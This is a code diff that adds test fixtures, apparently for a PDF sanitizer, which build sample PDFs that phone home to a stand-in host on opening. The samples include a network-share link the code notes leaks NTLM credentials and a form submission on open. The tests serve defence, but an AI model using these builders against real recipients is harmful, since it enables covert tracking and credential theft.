@@ -153,6 +153,66 @@ def pdf_with_launch_action() -> bytes:
     return _pdf_bytes(pdf)
 
 
+TRACKING_HOST = "tracker.invalid"
+
+
+def pdf_with_uri_open_action() -> bytes:
+    """Opening the document fetches a URL on the sender's server."""
+    pdf = pikepdf.new()
+    pdf.add_blank_page()
+    pdf.Root.OpenAction = pikepdf.Dictionary(
+        S=pikepdf.Name.URI, URI=f"https://{TRACKING_HOST}/opened"
+    )
+    return _pdf_bytes(pdf)
+
+
+def _pdf_with_link(pdf: pikepdf.Pdf, action: pikepdf.Dictionary) -> bytes:
+    """Put a link annotation running ``action`` on the first page of ``pdf``."""
+    link = pdf.make_indirect(
+        pikepdf.Dictionary(
+            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 100, 100], A=action
+        )
+    )
+    pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([link]))
+    return _pdf_bytes(pdf)
+
+
+def pdf_with_remote_goto_link() -> bytes:
+    """A link annotation that opens a file on a network share (leaks NTLM credentials on Windows)."""
+    pdf = pikepdf.new()
+    pdf.add_blank_page()
+    share = f"\\\\{TRACKING_HOST}\\share\\doc.pdf"
+    return _pdf_with_link(pdf, pikepdf.Dictionary(S=pikepdf.Name.GoToR, F=share, D=[0]))
+
+
+def pdf_with_page_open_uri_action() -> bytes:
+    """A page's additional action (/AA /O) fetches a URL when the page is shown."""
+    pdf = pikepdf.new()
+    pdf.add_blank_page()
+    pdf.pages[0].AA = pikepdf.Dictionary(
+        O=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=f"https://{TRACKING_HOST}/page")
+    )
+    return _pdf_bytes(pdf)
+
+
+def pdf_with_submit_form_action() -> bytes:
+    pdf = pikepdf.new()
+    pdf.add_blank_page()
+    pdf.Root.OpenAction = pikepdf.Dictionary(
+        S=pikepdf.Name.SubmitForm, F=f"https://{TRACKING_HOST}/submit"
+    )
+    return _pdf_bytes(pdf)
+
+
+def pdf_with_internal_link() -> bytes:
+    """A two-page PDF whose link jumps to its own second page: harmless, kept."""
+    pdf = pikepdf.new()
+    pdf.add_blank_page()
+    pdf.add_blank_page()
+    target = [pdf.pages[1].obj, pikepdf.Name.Fit]
+    return _pdf_with_link(pdf, pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=target))
+
+
 def pdf_with_embedded_file() -> bytes:
     pdf = pikepdf.new()
     pdf.add_blank_page()
